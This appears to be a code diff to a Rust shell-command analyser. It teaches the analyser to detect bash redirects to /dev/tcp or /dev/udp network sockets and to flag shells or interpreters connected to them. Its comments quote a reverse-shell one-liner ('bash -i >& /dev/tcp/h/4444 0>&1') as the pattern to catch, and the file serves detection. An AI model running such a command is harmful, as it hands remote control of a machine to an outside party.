@@ -119,6 +119,10 @@ enum RedirectedInput {
     /// A file, as its word expands (`bash < x.sh`): what it holds is read only when the
     /// line wrote or fetched it, as for `bash x.sh`
     File(String),
+    /// A network socket bash opens (`/dev/tcp/HOST/PORT`) on any descriptor of the
+    /// statement: with its input or output on the network, a shell runs what comes from it
+    /// (`bash -i >& /dev/tcp/h/4444 0>&1`)
+    Socket(String),
 }
 
 /// Where a node is walked: its source text, the commands feeding its input, and how deep
@@ -523,11 +527,17 @@ impl Reader {
             }
         }
         let script_text = script.clone();
-        // The last input redirect is the one the shell leaves in place.
+        // The last input redirect is the one the shell leaves in place; a socket on any
+        // descriptor may become the input by a later `0>&N`, so it counts first.
         let input = redirect_nodes
             .iter()
-            .filter_map(|redirect| self.redirected_input(*redirect, at.source))
-            .last();
+            .find_map(|redirect| socket_redirect(*redirect, at.source))
+            .or_else(|| {
+                redirect_nodes
+                    .iter()
+                    .filter_map(|redirect| self.redirected_input(*redirect, at.source))
+                    .last()
+            });
         let outer_input = std::mem::replace(&mut self.input, input);
         let walked = self.around(
             &redirect_nodes,
@@ -1687,6 +1697,7 @@ impl Reader {
                 }
             }
         }
+        self.network_input(program, &mut runs);
         self.variable_runs(program, &mut runs);
         self.autoruns(program, args, &mut runs);
         // A name without `/` is looked up in `PATH`: only a file written by that very name
@@ -1956,6 +1967,8 @@ impl Reader {
         runs: &mut Runs,
     ) {
         let mut saw_c = false;
+        // `-s`: the operands are the script's positional parameters, its input the script.
+        let mut saw_s = false;
         let mut options_done = false;
         let mut words = args.iter();
         while let Some(arg) = words.next() {
@@ -1977,6 +1990,7 @@ impl Reader {
                 }
                 Some(cluster) => {
                     saw_c |= arg.starts_with('-') && cluster.contains('c');
+                    saw_s |= arg.starts_with('-') && cluster.contains('s');
                     // `-o errexit`, `+O extglob`, `-eo pipefail`: each takes a word.
                     for _ in cluster.chars().filter(|flag| matches!(flag, 'o' | 'O')) {
                         words.next();
@@ -1986,7 +2000,7 @@ impl Reader {
                     runs.word(program, arg.clone());
                     return;
                 }
-                None if STDIN_PATHS.contains(&arg.as_str()) => break,
+                None if saw_s || STDIN_PATHS.contains(&arg.as_str()) => break,
                 None => {
                     self.script_file(program, arg, runs);
                     return;
@@ -2013,6 +2027,23 @@ impl Reader {
         if let Some(descriptor) = descriptor {
             runs.opaque.push(format!(
                 "the script `{program}` reads from file descriptor {descriptor} is whatever it was opened on, only known at run time"
+            ));
+        }
+    }
+
+    /// Why a shell or an interpreter with a network socket on one of its descriptors
+    /// (`bash -i >& /dev/tcp/h/4444 0>&1`) runs code from elsewhere: whether its input is
+    /// the socket, or a script or its code reads from it, is only known at run time
+    fn network_input(&self, program: &str, runs: &mut Runs) {
+        let Some(RedirectedInput::Socket(socket)) = &self.input else {
+            return;
+        };
+        let runs_code = SHELLS.contains(&program)
+            || STDIN_RUNNERS.contains(&program)
+            || knowledge::interpreter(program).is_some();
+        if runs_code {
+            runs.opaque.push(format!(
+                "`{program}` is connected to the network socket `{socket}`, and may run what is sent from elsewhere, only known at run time"
             ));
         }
     }
@@ -2332,6 +2363,23 @@ fn redirect_parts<N: Syntax>(node: N, source: &str) -> (String, Vec<N>) {
         }
     }
     (operator, targets)
+}
+
+/// The network socket a redirect opens (`>& /dev/tcp/h/80`, `3<> /dev/udp/h/53`), of any
+/// operator and descriptor
+fn socket_redirect<N: Syntax>(node: N, source: &str) -> Option<RedirectedInput> {
+    if node.kind() != "file_redirect" {
+        return None;
+    }
+    let (_, targets) = redirect_parts(node, source);
+    let [target] = targets.as_slice() else {
+        return None;
+    };
+    let path = unquote(text(*target, source));
+    knowledge::NETWORK_DEVICES
+        .iter()
+        .any(|device| path.starts_with(device))
+        .then_some(RedirectedInput::Socket(path))
 }
 
 /// The descriptor a path names when it is one other than the standard input (`/dev/fd/3`,
